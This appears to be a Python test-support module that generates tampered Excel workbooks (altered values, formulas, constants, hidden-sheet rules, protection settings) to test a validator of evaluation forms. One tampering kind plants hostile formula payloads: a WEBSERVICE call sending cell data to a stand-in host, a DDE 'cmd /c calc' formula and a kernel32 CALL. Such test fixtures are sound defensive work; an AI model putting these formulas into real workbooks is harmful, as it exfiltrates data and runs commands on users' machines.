"""Tamperings of what cells hold: values, formulas, printed constants, the words of the unit, what is written beside the form."""

from __future__ import annotations

import re

from support.forging import (
    KINDS,
    TAG,
    altered,
    at,
    kind,
    other_number,
    pick,
    shown,
    somewhere,
    text_entries,
    visible,
)
from support.tamper import MAIN
from xl_jixiao.sheet.edition import Edition
from xl_jixiao.sheet.plan import Computed, Entry, Label, Ref, Visibility, column_letter, is_name


def _value_kinds() -> None:
    for name, numeric, keep in (
        ("number typed over", True, False),
        ("text typed over", False, False),
        ("number cached", True, True),
        ("text cached", False, True),
    ):

        def deed(book, base, chance, numeric=numeric, keep=keep):
            ref, one = pick(base, chance, Computed, numeric=numeric)
            if ref is None:
                return None
            value = shown(base.plan, one.content)
            new = other_number(value, chance) if numeric else altered(value, chance)
            book.put(ref.sheet, ref.local, new, keep_formula=keep)
            return at(ref)

        KINDS[name] = deed


_value_kinds()


@kind("same value typed over")
def same_value(book, base, chance):
    ref, one = pick(base, chance, Computed)
    value = shown(base.plan, one.content)
    book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value))
    return at(ref)


@kind("formula deleted")
def formula_deleted(book, base, chance):
    ref, _ = pick(base, chance, Computed)
    book.put(ref.sheet, ref.local)
    return at(ref)


@kind("another formula")
def another_formula(book, base, chance):
    ref, one = pick(base, chance, Computed)
    own = base.plan.formula(ref.sheet, one.content)
    value = shown(base.plan, one.content)
    texts = (
        ['"优秀"', f"IF(TRUE,{own},{own})", f'({own})&""', "A1"]
        if isinstance(value, str)
        else ["88+1", f"({own})+1", f"IF(TRUE,99,{own})", f"MAX({own},3)", "ROUND(99,2)"]
    )
    book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value), formula=chance.choice(texts))
    return at(ref)


@kind("constant changed")
def constant_changed(book, base, chance):
    ref, one = pick(base, chance, Label)
    value = one.content.value
    book.put(ref.sheet, ref.local, altered(value, chance) if isinstance(value, str) else float(value) + 1)
    return at(ref)


@kind("constant deleted")
def constant_deleted(book, base, chance):
    ref, _ = pick(base, chance, Label)
    book.put(ref.sheet, ref.local)
    return at(ref)


@kind("constant made a formula")
def constant_formula(book, base, chance):
    ref, one = pick(base, chance, Label)
    value = one.content.value
    if isinstance(value, str):
        book.put(ref.sheet, ref.local, value, formula='"' + value.replace('"', '""')[:200] + '"')
    else:
        book.put(ref.sheet, ref.local, float(value), formula=f"{float(value)}+0")
    return at(ref)


@kind("constant of a hidden sheet changed")
def hidden_constant(book, base, chance):
    ref, one = pick(base, chance, Label, hidden=True)
    value = one.content.value
    if ref is None or ref.sheet == "xlwings.conf" or (ref.row, ref.column) == (0, 0):
        return None
    book.put(ref.sheet, ref.local, altered(value, chance) if isinstance(value, str) else float(value) + 1)
    return at(ref)


@kind("entry made a formula")
def entry_formula(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None:
        return None
    value = float(one.content.value)
    book.put(
        ref.sheet,
        ref.local,
        value,
        formula=chance.choice(
            (f"A1*0+{value}", f"IF(1,{value},0)", "'[别的.xlsx]Sheet1'!$A$1", f"SUM(Z1:Z9)+{value}", f"N({value})", f"{value + 1}-2")
        ),
    )
    return at(ref)


@kind("text entry made a formula")
def text_entry_formula(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=False)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, one.content.value, formula=f'T("{str(one.content.value)[:100]}")')
    return at(ref)


@kind("error value")
def error_value(book, base, chance):
    ref, _ = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, "#N/A", error=True)
    return at(ref)


@kind("true for a number")
def boolean_value(book, base, chance):
    ref, _ = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, True, keep_formula=True)
    return at(ref)


@kind("number as text")
def number_as_text(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, str(float(shown(base.plan, one.content)) + 1), keep_formula=True)
    return at(ref)


@kind("array formula")
def array_formula(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, 99.0, formula="SUM({90,9})")
    f = book.cell(ref.sheet, ref.local).find(f"{{{MAIN}}}f")
    f.set("t", "array")
    f.set("ref", ref.local)
    return at(ref)


@kind("values of two rows swapped")
def rows_swapped(book, base, chance):
    """The figures of two entries exchanged is a filing of its own; two constants exchanged is none."""
    sheets = {}
    for ref, one in base.places(Label, numeric=False):
        sheets.setdefault((ref.sheet, ref.column), []).append((ref, one))
    group = chance.choice([cells for cells in sheets.values() if len({one.content.value for _, one in cells}) > 1])
    (ref, one), (other, another) = chance.sample(group, 2)
    if one.content.value == another.content.value:
        return None
    book.put(ref.sheet, ref.local, another.content.value)
    book.put(other.sheet, other.local, one.content.value)
    return at(ref)


@kind("content in the form's blanks")
def outside(book, base, chance):
    sheets = [sheet for sheet in base.plan.sheets if sheet.visibility is Visibility.SHOWN and sheet.page.area]
    sheet = chance.choice(sheets)
    top, left, bottom, right = sheet.page.area
    covered = {
        (row, column)
        for one in sheet.cells
        for row in range(one.row, one.row + one.rows)
        for column in range(one.column, one.column + one.columns)
    }
    free = [(row, column) for row in range(top, bottom + 1) for column in range(left, right + 1) if (row, column) not in covered]
    if not free:
        return None
    row, column = chance.choice(free)
    ref = Ref(sheet.name, row, column)
    book.put(ref.sheet, ref.local, chance.choice(("加分5分", 100)))
    return at(ref)


@kind("formula that calls out")
def calls_out(book, base, chance):
    ref, _ = pick(base, chance, Entry)
    if ref is None:
        return None
    book.put(
        ref.sheet,
        f"{column_letter(ref.column + 9)}{ref.row + 1}",
        0,
        formula=chance.choice(('_xlfn.WEBSERVICE("http://x.cn/"&A1)', "cmd|'/c calc'!A0", 'CALL("kernel32","x","J")')),
    )
    return "", ""


@kind("reason that says nothing")
def thin_reason(book, base, chance):
    found = text_entries(base, reasons=True)
    if not found:
        return None
    ref, _, _ = chance.choice(found)
    book.put(ref.sheet, ref.local, chance.choice(("无", "同上", "。", "见附件", "单位意见", "情况属实", "无偏差", "/", "详见附件")))
    return at(ref)


@kind("words left to be filled in")
def placeholder(book, base, chance):
    found = text_entries(base, reasons=False)
    if not found:
        return None
    ref, entry, _ = chance.choice(found)
    half = len(entry.value) // 2
    left = chance.choice(("XX", "××", "〔待填〕", "某某", "XXX", "＿＿", "（100字以内）", "****"))
    book.put(ref.sheet, ref.local, f"{entry.value[:half]}，其中{left}万元，{entry.value[half:]}")
    book.said = left
    return at(ref)


@kind("another unit's year")
def another_year(book, base, chance):
    found = text_entries(base, reasons=False)
    if not found:
        return None
    ref, _, _ = chance.choice(found)
    book.put(ref.sheet, ref.local, f"{chance.choice((2012, 2014, 2015))}年，我们按年初计划推进各项工作，较好地完成了全年任务。")
    return at(ref)


@kind("figure changed after export")
def changed_after(book, base, chance):
    if base.edition is not Edition.FINISHED:
        return None
    ref, one = pick(base, chance, Entry)
    value = one.content.value
    book.put(ref.sheet, ref.local, altered(value, chance) if isinstance(value, str) else float(value) + 1)
    return at(ref)


@kind("error typed in an entry")
def entry_error(book, base, chance):
    ref, _ = pick(base, chance, Entry, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, chance.choice(("#N/A", "#REF!", "#VALUE!")), error=True)
    return at(ref)


@kind("true typed in an entry")
def entry_true(book, base, chance):
    ref, _ = pick(base, chance, Entry, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, True)
    return at(ref)


@kind("words for a number in an entry")
def entry_words(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, chance.choice(("约六十", "见附表", "66左右", "60-66", "大于66")))
    return at(ref)


@kind("area of a formula shortened")
def area_shortened(book, base, chance):
    found = []
    for ref, one in base.places(Computed, numeric=True):
        own = base.plan.formula(ref.sheet, one.content)
        match = re.search(r"(\$?[A-Z]+\$?)(\d+):(\$?[A-Z]+\$?)(\d+)", own)
        if match and int(match[4]) > int(match[2]) + 1:
            found.append((ref, one, own, match))
    if not found:
        return None
    ref, one, own, match = chance.choice(found)
    text = own[: match.start()] + f"{match[1]}{match[2]}:{match[3]}{int(match[4]) - 1}" + own[match.end() :]
    book.put(ref.sheet, ref.local, float(shown(base.plan, one.content)), formula=text)
    return at(ref)


@kind("shared formula of another cell")
def shared_formula(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    below = Ref(ref.sheet, 0, 60)
    book.put(below.sheet, below.local, 1.0, formula="1+98")
    master = book.cell(below.sheet, below.local).find(f"{{{MAIN}}}f")
    master.set("t", "shared")
    master.set("si", "77")
    master.set("ref", f"A1:{below.local}")
    book.put(ref.sheet, ref.local, float(shown(base.plan, one.content)), formula="")
    own = book.cell(ref.sheet, ref.local).find(f"{{{MAIN}}}f")
    own.set("t", "shared")
    own.set("si", "77")
    return at(ref)


@kind("what-if table over a computed cell")
def data_table(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, float(shown(base.plan, one.content)), formula="")
    own = book.cell(ref.sheet, ref.local).find(f"{{{MAIN}}}f")
    for key, value in {"t": "dataTable", "ref": ref.local, "dt2D": "0", "dtr": "0", "r1": "A1"}.items():
        own.set(key, value)
    return at(ref)


@kind("links to another workbook without a part for it")
def link_only(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None:
        return None
    book.put("" or ref.sheet, f"{column_letter(ref.column + 15)}{ref.row + 1}", 1, formula="'D:\\[别的.xlsx]表'!A1")
    return "", ""


@kind("number typed in a finished sheet")
def finished_number(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None or base.edition is not Edition.FINISHED:
        return None
    book.put(ref.sheet, ref.local, round(float(one.content.value) + chance.choice((0.5, 1, 5, -0.5)), 2))
    return at(ref)


@kind("words typed in a finished sheet")
def finished_words(book, base, chance):
    found = text_entries(base, reasons=False) if base.edition is Edition.FINISHED else []
    if not found:
        return None
    ref, one, _ = chance.choice(found)
    book.put(ref.sheet, ref.local, str(one.value)[:-3] + chance.choice(("，成效显著。", "，群众一致好评。")))
    return at(ref)


@kind("all formulas of a sheet made values")
def sheet_of_values(book, base, chance):
    sheets = sorted({ref.sheet for ref, _ in base.places(Computed)})
    sheet = chance.choice(sheets)
    for ref, one in base.places(Computed):
        if ref.sheet == sheet:
            value = shown(base.plan, one.content)
            book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value))
    return sheet, ""


@kind("all formulas of the workbook made values")
def book_of_values(book, base, chance):
    for ref, one in base.places(Computed):
        value = shown(base.plan, one.content)
        book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value))
    return "", ""


@kind("unit's name put otherwise in one place")
def unit_otherwise(book, base, chance):
    found = [
        (ref, one) for ref, one in base.places(Computed, numeric=False) if re.search("县|市|局|办", str(shown(base.plan, one.content)))
    ]
    if not found:
        return None
    ref, one = chance.choice(found)
    book.put(
        ref.sheet, ref.local, re.sub("(县|市|局|办)", r"\1直属", str(shown(base.plan, one.content)), count=1) + "　", keep_formula=True
    )
    return at(ref)


@kind("year of the title changed")
def title_year(book, base, chance):
    found = [
        (ref, one)
        for ref, one in base.places((Label, Computed), numeric=False)
        if re.search("20[0-9]{2}", str(shown(base.plan, one.content)))
    ]
    if not found:
        return None
    ref, one = chance.choice(found)
    text = re.sub("20[0-9]{2}", "2030", str(shown(base.plan, one.content)), count=1)
    book.put(ref.sheet, ref.local, text, keep_formula=isinstance(one.content, Computed))
    return at(ref)


@kind("reason written in a blank of the form")
def stray_reason(book, base, chance):
    sheets = [one for one in base.plan.sheets if one.visibility is Visibility.SHOWN and one.page.area and one.name != "填报说明"]
    sheet = chance.choice(sheets)
    top, left, bottom, right = sheet.page.area
    ref = Ref(sheet.name, chance.randrange(top, bottom + 1), right + 1)
    book.put(ref.sheet, ref.local, "已报财政局同意调整为满分")
    return (ref.sheet, "") if base.edition is Edition.FINISHED else None


@kind("spaces turned into a number's digits")
def wide_digits(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, "９８．５", keep_formula=True)
    return at(ref)


@kind("rule on the hidden sheet led by a formula")
def hidden_formula(book, base, chance):
    ref, one = pick(base, chance, Label, hidden=True)
    if ref is None or ref.sheet == "xlwings.conf" or (ref.row, ref.column) == (0, 0):
        return None
    value = one.content.value
    book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value), formula='T("a")' if isinstance(value, str) else "1+1")
    return at(ref)


@kind("formula that looks at the day")
def on_a_day(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    own = base.plan.formula(ref.sheet, one.content)
    book.put(ref.sheet, ref.local, float(shown(base.plan, one.content)), formula=f"IF(TODAY()>99999,{own},{own}+0)")
    return at(ref)


@kind("formula that looks at the file's name")
def by_file_name(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    own = base.plan.formula(ref.sheet, one.content)
    book.put(ref.sheet, ref.local, float(shown(base.plan, one.content)), formula=f'IF(ISNUMBER(SEARCH("某局",CELL("filename"))),{own},100)')
    return at(ref)


@kind("claim right of the form, far away")
def far_claim(book, base, chance):
    sheet = visible(base, chance)
    if base.edition is not Edition.FINISHED:
        return None
    book.put(sheet, f"{column_letter(80)}3", "总分98分")
    return sheet, ""


@kind("published figure that is none")
def published_wrong(book, base, chance):
    refs = [ref for ref, _ in base.places(Entry) if ref.sheet.endswith("公布数核对")]
    if not refs:
        return None
    ref = chance.choice(refs)
    if chance.random() < 0.5:
        book.put(ref.sheet, ref.local, "#N/A", error=True)
    else:
        book.put(ref.sheet, ref.local, chance.choice((True, "约六")))
    return at(ref)


@kind("cached string of formula other type")
def cached_string_of_formula_other(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=False)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, 98.5, keep_formula=True)
    return at(ref)


@kind("cached blank")
def cached_blank(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, "", keep_formula=True)
    return at(ref)


@kind("formula with cached plus dust")
def formula_with_cached_plus_dust(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, float(shown(base.plan, one.content)) + 0.04, keep_formula=True)
    return at(ref)


@kind("sheet protection with password by another")
def sheet_protection_with_password(book, base, chance):
    sheet = chance.choice([other.name for other in base.plan.sheets if other.protected and other.visibility is Visibility.SHOWN])
    part = book.sheet(sheet).find(TAG + "sheetProtection")
    part.set("formatCells", "0")
    part.set("insertRows", "0")
    part.set("deleteRows", "0")
    return (sheet, "")


@kind("weight label number as text")
def weight_label_number_as_text(book, base, chance):
    ref, one = pick(base, chance, Label, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, str(float(one.content.value) + 1))
    return at(ref)


@kind("full-width digit in a label")
def full_width_digit_in_a_label(book, base, chance):
    found = [(ref, one) for ref, one in base.places(Label, numeric=False) if re.search("\\d", str(one.content.value))]
    ref, one = chance.choice(found)
    text = str(one.content.value)
    book.put(ref.sheet, ref.local, re.sub("\\d", lambda m: str((int(m[0]) + 2) % 10), text, count=1))
    return at(ref)


@kind("not inserted in a criterion")
def not_inserted_in_a_criterion(book, base, chance):
    found = [(ref, one) for ref, one in base.places(Label, numeric=False) if len(str(one.content.value)) > 15]
    ref, one = chance.choice(found)
    text = str(one.content.value)
    book.put(ref.sheet, ref.local, text[:8] + "未" + text[8:])
    return at(ref)


@kind("zero width joiner spam in label")
def zero_width_joiner_spam_in_labe(book, base, chance):
    ref, one = pick(base, chance, Label, numeric=False)
    text = str(one.content.value)
    book.put(ref.sheet, ref.local, "优\u202e" + text)
    return at(ref)


@kind("entry text with formula-like apostrophe")
def entry_text_with_formula_like_a(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, "=1+1")
    return at(ref)


@kind("entry far negative")
def far_negative(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None or base.edition is Edition.FINISHED or not is_name(one.content.key):  # a target below zero may be meant
        return None
    book.put(ref.sheet, ref.local, -abs(float(one.content.value)) - 1)
    return at(ref)


@kind("entry 1e300")
def entry_e(book, base, chance):
    ref, one = pick(base, chance, Entry, numeric=True)
    if ref is None or base.edition is Edition.FINISHED:
        return None
    book.put(ref.sheet, ref.local, 1e300)
    return at(ref)


@kind("sum formula constant tail")
def sum_formula_constant_tail(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    value = float(shown(base.plan, one.content))
    own = base.plan.formula(ref.sheet, one.content)
    book.put(ref.sheet, ref.local, value, formula=f"IFERROR({own},100)")
    return at(ref)


@kind("N() with comment in formula")
def n_with_comment_in_formula(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    value = float(shown(base.plan, one.content))
    own = base.plan.formula(ref.sheet, one.content)
    book.put(ref.sheet, ref.local, value, formula=f'{own}+N("x")')
    return at(ref)


@kind("formula text only in array of neighbours")
def formula_text_only_in_array_of(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    value = float(shown(base.plan, one.content))
    own = base.plan.formula(ref.sheet, one.content)
    book.put(ref.sheet, ref.local, value, formula=f"CHOOSE(1,{own},99)")
    return at(ref)


@kind("label with shared formula text")
def label_with_shared_formula_text(book, base, chance):
    ref, one = pick(base, chance, Label)
    value = one.content.value
    book.put(ref.sheet, ref.local, value if isinstance(value, str) else float(value), formula='A1&""')
    return at(ref)


@kind("column width 255 pushing off page")
def column_width_pushing_off_page(book, base, chance):
    ref = somewhere(base, chance)
    book.put(ref.sheet, f"{column_letter(ref.column)}{900}", "已核98分")
    return (ref.sheet, "") if base.edition is Edition.FINISHED else None


@kind("cell type date iso")
def cell_type_date_iso(book, base, chance):
    ref, one = pick(base, chance, Computed, numeric=True)
    if ref is None:
        return None
    book.put(ref.sheet, ref.local, float(shown(base.plan, one.content)) + 2, keep_formula=True)
    book.cell(ref.sheet, ref.local).set("t", "n")
    return at(ref)


@kind("unit name typed otherwise in a title cache")
def unit_name_typed_otherwise_in_a(book, base, chance):
    found = [(ref, one) for ref, one in base.places(Computed, numeric=False) if re.search("局|办|中心", str(shown(base.plan, one.content)))]
    if not found:
        return None
    ref, one = chance.choice(found)
    book.put(ref.sheet, ref.local, re.sub("局|办|中心", "厅", str(shown(base.plan, one.content)), count=1), keep_formula=True)
    return at(ref)
